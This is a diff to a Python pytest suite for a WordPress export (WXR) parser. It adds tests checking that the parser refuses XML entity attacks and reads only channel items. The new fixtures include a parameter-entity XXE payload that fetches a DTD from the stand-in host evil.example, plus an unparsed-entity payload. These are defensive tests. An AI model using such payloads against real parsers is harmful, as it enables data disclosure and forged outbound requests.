@@ -194,10 +194,39 @@ EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
 <item><title>&secret;</title><wp:post_id>1</wp:post_id></item></channel></rss>"""
 
 
-@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY], ids=["billion-laughs", "external-entity"])
+PARAMETER_ENTITY = b"""<?xml version="1.0"?>
+<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
+<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><wp:wxr_version>1.2</wp:wxr_version></channel></rss>"""
+UNPARSED_ENTITY = b"""<?xml version="1.0"?>
+<!DOCTYPE rss [<!NOTATION gif SYSTEM "image/gif"><!ENTITY logo SYSTEM "logo.gif" NDATA gif>]>
+<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><wp:wxr_version>1.2</wp:wxr_version></channel></rss>"""
+
+
+@pytest.mark.parametrize(
+    "data",
+    [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, UNPARSED_ENTITY],
+    ids=["billion-laughs", "external-entity", "parameter-entity", "unparsed-entity"],
+)
 def test_entity_attacks_are_refused(data):
     with pytest.raises(SourceError, match="^evil.xml: refused"):
         list(wxr.parse(data, name="evil.xml"))
+
+
+def test_an_entity_no_dtd_declares_is_malformed_xml_with_its_line():
+    data = b"""<?xml version="1.0"?>
+<!DOCTYPE rss SYSTEM "rss.dtd">
+<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><wp:wxr_version>1.2</wp:wxr_version>
+<item><title>Caf&eacute;</title><wp:post_id>1</wp:post_id></item></channel></rss>"""
+    with pytest.raises(SourceError, match=r"^x.xml: malformed XML: undefined entity &eacute;: line 4"):
+        list(wxr.parse(data, name="x.xml"))
+
+
+def test_only_children_of_the_channel_are_read():
+    data = b"""<?xml version="1.0"?><rss xmlns:wp="http://wordpress.org/export/1.2/">
+<other><item><title>Not a post</title><wp:post_id>9</wp:post_id></item></other>
+<channel><wp:wxr_version>1.2</wp:wxr_version><link>https://s.example</link>
+<item><title>A post</title><wp:post_id>1</wp:post_id></item></channel></rss>"""
+    assert [post.headline for post in wxr.parse(data, name="s.xml")] == ["A post"]
 
 
 def test_stream_memory_does_not_grow_with_the_export(tmp_path):
